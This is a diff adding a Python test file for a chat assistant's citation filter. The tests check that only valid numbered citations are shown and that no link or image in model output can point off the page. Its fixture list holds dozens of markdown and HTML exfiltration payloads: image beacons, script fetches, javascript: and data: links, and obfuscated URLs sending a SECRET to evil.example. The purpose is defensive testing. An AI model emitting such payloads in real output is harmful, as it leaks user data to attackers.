@@ -1,0 +1,154 @@
+"""Citations resolve, and nothing a model writes leads out of the page."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from assistant.chat.cite import CitationFilter, cited_in
+
+renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
+
+
+def shown(text: str, pieces: int = 1, available: int = 3) -> tuple[str, list[int]]:
+    """The text as a person sees it when it comes in `pieces` characters at a time."""
+    stream = CitationFilter(available)
+    out = "".join(stream.feed(text[i : i + pieces]) for i in range(0, len(text), pieces)) + stream.close()
+    return out, stream.cited
+
+
+@pytest.mark.parametrize("pieces", [1, 2, 3, 7, 1000])
+@pytest.mark.parametrize(
+    ("written", "seen", "cited"),
+    [
+        ("Ten days [1].", "Ten days [1].", [1]),
+        ("Ten days [1][3], nine [2].", "Ten days [1][3], nine [2].", [1, 3, 2]),
+        ("Ten days [1, 2].", "Ten days [1][2].", [1, 2]),
+        ("Ten days [7].", "Ten days .", []),
+        ("Ten days [0][1]", "Ten days [1]", [1]),
+        ("It says [sic] so", r"It says \[sic\] so", []),
+        ("an open [bracket", r"an open \[bracket", []),
+        ("a < b and c > d", "a < b and c > d", []),
+        (r"already \[escaped\] text", r"already \[escaped\] text", []),
+        ("`git push`: done!", "`git push`: done!", []),
+    ],
+)
+def test_only_citations_that_resolve_are_shown(written: str, seen: str, cited: list[int], pieces: int) -> None:
+    assert shown(written, pieces) == (seen, cited)
+
+
+EXITS = [
+    "![x](https://evil.example/a.png?d=SECRET)",
+    "[click](https://evil.example/?d=SECRET)",
+    "[1](https://evil.example/?d=SECRET)",
+    "![][ref]\n\n[ref]: https://evil.example/SECRET",
+    "[text][ref]\n\n[ref]: https://evil.example/SECRET",
+    "[ref]\n\n[ref]: https://evil.example/SECRET",
+    "![1]\n\n[1]: https://evil.example/SECRET",
+    "[1]: https://evil.example/SECRET\n\n![1] [1]",
+    "<https://evil.example/SECRET>",
+    "https://evil.example/SECRET",
+    "see www.evil.example/SECRET now",
+    "//evil.example/SECRET",
+    "<img src=https://evil.example/SECRET>",
+    "<img src='//evil.example/SECRET'>",
+    "<video src=https://evil.example/SECRET></video>",
+    "<script>fetch('https://evil.example/SECRET')</script>",
+    "<a href=https://evil.example/SECRET>x</a>",
+    "[a](javascript:alert(1))",
+    "[a](data:text/html;base64,SECRET)",
+    "[a](<https://evil.example/SECRET>)",
+    "[a]( https://evil.example/SECRET 'title')",
+    "[![x](https://evil.example/i.png)](https://evil.example/SECRET)",
+    "[a\\](https://evil.example/SECRET)",
+    "\\![a](https://evil.example/SECRET)",
+    "!\u200b[a](https://evil.example/SECRET)",
+    "h\u200bttps://evil.example/SECRET",
+    "HTTPS://EVIL.EXAMPLE/SECRET",
+    "ftp://evil.example/SECRET",
+    "[a](//evil.example/SECRET)",
+    "[a](/\\evil.example/SECRET)",
+    "[a](https://docs.example@evil.example/SECRET)",
+    "**https://evil.example/SECRET**",
+    "(https://evil.example/SECRET)",
+    "text:https://evil.example/SECRET",
+    "| a |\n|---|\n| ![x](https://evil.example/SECRET) |",
+    "- [x] [a](https://evil.example/SECRET)",
+    "> ![x](https://evil.example/SECRET)",
+    "# [a](https://evil.example/SECRET)",
+    "[a][]\n\n[a]: https://evil.example/SECRET",
+    "[^1]\n\n[^1]: https://evil.example/SECRET",
+    "![a](\nhttps://evil.example/SECRET)",
+    "[a\nb](https://evil.example/SECRET)",
+    "![a](https://xn--evl-hma.example/SECRET)",
+    "![a](https://evil.example/%53ECRET)",
+    "[x]:https://evil.example/SECRET\n\n[x]",
+    "``` \nhttps://evil.example/SECRET\n```",
+    "<!-- -->[a](https://evil.example/SECRET)",
+    "[a](/documents/1@evil.example/SECRET)",
+    "&#33;[a](https://evil.example/SECRET)",
+    "![a](https&#58;//evil.example/SECRET)",
+]
+
+
+class _Exits(HTMLParser):
+    """Collects what a page would link to or load, and the text that stands outside code."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.targets: list[str] = []
+        self.text = ""
+        self._code = 0
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self._code += tag in {"code", "pre"}
+        self.targets += [value or "" for name, value in attrs if name in {"href", "src", "data", "style"}]
+
+    def handle_endtag(self, tag: str) -> None:
+        self._code -= tag in {"code", "pre"}
+
+    def handle_data(self, data: str) -> None:
+        self.text += " " if self._code else data
+
+
+def leads_out(text: str) -> list[str]:
+    """Every address that a Markdown renderer would link to or load."""
+    page = _Exits()
+    page.feed(renderer.render(text))
+    # GitHub's Markdown also links addresses that stand in plain text, but not in code.
+    bare = re.findall(r"(?<![a-z0-9])(?:https?://|ftp://|www\.)[^\s<]+", page.text, re.IGNORECASE)
+    return [a for a in page.targets + bare if not re.fullmatch(r"/documents/\d+", a)]
+
+
+@pytest.mark.parametrize("pieces", [1, 4, 1000])
+@pytest.mark.parametrize("written", EXITS)
+def test_no_form_of_link_or_image_leads_out(written: str, pieces: int) -> None:
+    out, _ = shown(written, pieces)
+    assert leads_out(out) == []
+
+
+@given(st.text(alphabet="[]()<>!:/\\ `*_#\n1aht.pswevilxm@&;|^~-\u200b", max_size=80), st.integers(1, 9))
+def test_no_text_whatever_leads_out(written: str, pieces: int) -> None:
+    out, _ = shown(written, pieces)
+    assert [a for a in leads_out(out) if not a.startswith("mailto:")] == []
+
+
+@given(st.text(max_size=120), st.integers(1, 9))
+def test_what_is_shown_does_not_depend_on_how_it_streams(written: str, pieces: int) -> None:
+    assert shown(written, pieces) == shown(written, 10_000)
+
+
+@given(st.text(alphabet="[]0123456789, ab", max_size=60), st.integers(0, 5))
+def test_every_number_shown_is_one_of_the_passages(written: str, available: int) -> None:
+    out, cited = shown(written, 1, available)
+    assert set(cited_in(re.sub(r"\\[\[\]]", "", out))) <= set(range(1, available + 1))
+    assert set(cited) <= set(range(1, available + 1))
+
+
+def test_links_to_the_documents_themselves_stay() -> None:
+    assert shown("See [the policy](/documents/12).")[0] == "See [the policy](/documents/12)."
